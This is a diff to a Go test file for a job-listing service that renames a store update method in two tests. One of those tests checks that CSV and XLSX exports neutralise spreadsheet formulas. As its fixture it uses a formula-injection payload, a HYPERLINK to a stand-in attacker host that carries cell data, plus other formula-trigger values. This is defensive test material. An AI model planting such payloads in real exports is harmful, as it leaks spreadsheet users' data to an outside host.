@@ -141,7 +141,7 @@ func TestDownloadsNeutraliseFormulas(t *testing.T) {
 	evil := `=HYPERLINK("http://evil.example/?x="&A1,"Nộp hồ sơ")`
 	j := testenv.NewJob(t, st, co, testenv.JobSpec{Title: evil})
 	j.Contact, j.Benefits = "@SUM(1+1)", "-2+3"
-	must(t, st.UpdateJob(ctx, &j))
+	must(t, st.Update(ctx, &j))
 
 	d := fetchDownloads(t, app, "jobs")
 	for name, rows := range map[string][][]string{"CSV": d.csv, "XLSX": d.xlsx} {
@@ -256,7 +256,7 @@ func TestOpenDataNamesNoOfficial(t *testing.T) {
 	co := testenv.NewCompany(t, st, 1, "hcm", domain.StatusPublished)
 	j := testenv.NewJob(t, st, co, testenv.JobSpec{Title: "Kế toán tổng hợp"})
 	j.Description = "Sửa bởi cán bộ"
-	must(t, st.UpdateJob(as, &j))
+	must(t, st.Update(as, &j))
 
 	bodies := []string{}
 	for _, f := range []string{"csv", "json"} {
